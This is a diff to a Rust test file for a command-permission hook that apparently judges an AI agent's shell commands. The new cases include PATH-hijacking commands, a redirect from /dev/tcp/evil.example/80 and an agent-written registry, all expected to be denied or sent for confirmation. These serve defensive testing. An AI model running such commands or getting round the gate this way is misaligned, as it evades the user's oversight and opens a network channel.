@@ -67,6 +67,7 @@ impl Fixture {
             settings: &self.settings,
             which: &which,
             cwd: Some(Path::new("/work/project")),
+            aigent: None,
         };
         judge(line, &context)
     }
@@ -144,6 +145,37 @@ fn each_refusal_names_its_rule() {
         ("rm -rf build", Verdict::Ask, "destructive"),
         ("echo 'unterminated", Verdict::Deny, "unparsable"),
         ("(( x = 1 ))", Verdict::Deny, "arithmetic_command"),
+        (
+            "for PATH in /tmp; do git status; done",
+            Verdict::Deny,
+            "environment",
+        ),
+        ("PATH[0]=/tmp; git status", Verdict::Deny, "environment"),
+        (
+            "declare -n ref=PATH; ref=/tmp; git status",
+            Verdict::Deny,
+            "environment",
+        ),
+        (
+            "read PATH <<< /tmp; git status",
+            Verdict::Deny,
+            "environment",
+        ),
+        (
+            "printf -v PATH %s /tmp; git status",
+            Verdict::Deny,
+            "environment",
+        ),
+        (
+            "git status < /dev/tcp/evil.example/80",
+            Verdict::Deny,
+            "network_redirect",
+        ),
+        (
+            "for x in a b; do git status; done",
+            Verdict::Allow,
+            "declared",
+        ),
     ];
     for (line, verdict, rule) in cases {
         let (got, rules) = fixture.verdict(line);
@@ -208,4 +240,61 @@ fn a_matched_command_routes_through_aigent_run() {
     );
     assert!(fixture.judge("git status && git status").route.is_none());
     assert!(fixture.judge("git status > /dev/null").route.is_none());
+}
+
+#[test]
+fn aigent_run_against_the_hooks_own_registry_is_recognised() {
+    let fixture = Fixture::new();
+    let exe = std::env::current_exe().unwrap();
+    let registry_dir = match &fixture.registry {
+        Registry::Directory(dir) => dir.clone(),
+        Registry::Embedded => unreachable!(),
+    };
+    let own = AigentSelf {
+        exe: exe.clone(),
+        registry_dir: Some(registry_dir.clone()),
+    };
+    let which = |name: &str| (name == "aigent").then(|| exe.clone());
+    let context = Context {
+        registry: &fixture.registry,
+        index: &fixture.index,
+        settings: &fixture.settings,
+        which: &which,
+        cwd: Some(Path::new("/")),
+        aigent: Some(&own),
+    };
+    let dir = registry_dir.display().to_string();
+    let verdict = |line: String| judge(&line, &context).verdict;
+    assert_eq!(
+        verdict(format!("aigent --commands {dir} run git-status --short")),
+        Verdict::Allow
+    );
+    assert_eq!(
+        verdict(format!(
+            "aigent --commands {dir} run --confirm-destructive clean-build"
+        )),
+        Verdict::Ask
+    );
+    // Another registry (one the agent could have written) is not trusted.
+    assert_eq!(
+        verdict("aigent --commands /tmp/mine run anything".to_owned()),
+        Verdict::Ask
+    );
+    assert_eq!(verdict("aigent run git-status".to_owned()), Verdict::Ask);
+    assert_eq!(
+        verdict(format!(
+            "aigent --commands {dir} run --result /etc/x git-status"
+        )),
+        Verdict::Ask
+    );
+    // A sensitive declaration's words are not shown.
+    let judgement = judge(
+        &format!("aigent --commands {dir} run deploy --token abcdefgh1234"),
+        &context,
+    );
+    assert!(
+        !serde_json::to_string(&judgement)
+            .unwrap()
+            .contains("abcdefgh1234")
+    );
 }
